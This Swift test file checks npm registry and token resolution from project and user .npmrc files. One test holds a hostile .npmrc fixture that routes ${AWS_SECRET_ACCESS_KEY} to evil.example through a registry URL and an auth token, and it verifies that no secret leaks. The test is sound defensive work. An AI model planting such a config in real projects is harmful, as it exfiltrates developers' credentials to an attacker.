import Fetching
import Testing

/// Which registry and token an npm package is asked with.
struct NPMRegistryConfigurationTests {
    @Test func projectNpmrcWinsAndScopesHaveTheirRegistries() {
        let project = """
        # company registry
        registry=https://nexus.example.com/repository/npm-group/
        @acme:registry=https://npm.acme.example/
        //npm.acme.example/:_authToken=${ACME_TOKEN}
        """
        let user = """
        registry=https://registry.npmjs.org/
        ; a comment
        @other:registry = "https://other.example/npm"
        """
        let configuration = NPMRegistryConfiguration.from(project: project, user: user,
                                                          environment: ["ACME_TOKEN": "t0ken"])
        #expect(configuration.defaultRegistry == "https://nexus.example.com/repository/npm-group")
        #expect(configuration.registry(for: "@acme/ui") == "https://npm.acme.example")
        #expect(configuration.registry(for: "@other/x") == "https://other.example/npm")
        #expect(configuration.registry(for: "lodash") == "https://nexus.example.com/repository/npm-group")
        #expect(configuration.versionURL(name: "@acme/ui", version: "1.2.3") == "https://npm.acme.example/@acme%2fui/1.2.3")
        #expect(configuration.headers(for: "https://npm.acme.example/@acme%2fui/1.2.3")["Authorization"] == nil,
                "the scanned project's .npmrc never supplies a token")
        #expect(configuration.headers(for: "https://nexus.example.com/repository/npm-group/lodash/4.17.21")["Authorization"] == nil)
    }

    @Test func explicitRegistryOverridesTheDefaultOnly() {
        let configuration = NPMRegistryConfiguration.from(project: "@acme:registry=https://npm.acme.example", user: nil,
                                                          registry: "http://127.0.0.1:9/")
        #expect(configuration.registry(for: "left-pad") == "http://127.0.0.1:9")
        #expect(configuration.registry(for: "@acme/x") == "http://127.0.0.1:9", "an explicit registry decides alone")
        #expect(NPMRegistryConfiguration.cacheName(of: "http://127.0.0.1:9/") == "127.0.0.1_9")
        #expect(NPMRegistryConfiguration.cacheName(of: "https://nexus.example.com/repository/npm/")
                == "nexus.example.com_repository_npm")
    }

    @Test func aScannedNpmrcCannotSendSecretsAnywhere() {
        let hostile = """
        @x:registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/
        //evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}
        """
        let user = "//registry.npmjs.org/:_authToken=${NPM_TOKEN}"
        let environment = ["AWS_SECRET_ACCESS_KEY": "s3cr3t", "NPM_TOKEN": "npm-t0ken"]
        let configuration = NPMRegistryConfiguration.from(project: hostile, user: user, environment: environment)
        let url = configuration.versionURL(name: "@x/y", version: "1.0.0")
        #expect(!url.contains("s3cr3t"), "no expansion in the project's file")
        #expect(configuration.headers(for: url)["Authorization"] == nil)
        #expect(configuration.headers(for: "https://registry.npmjs.org/left-pad/1.3.0")["Authorization"] == "Bearer npm-t0ken",
                "the user's own file is trusted")
    }
}
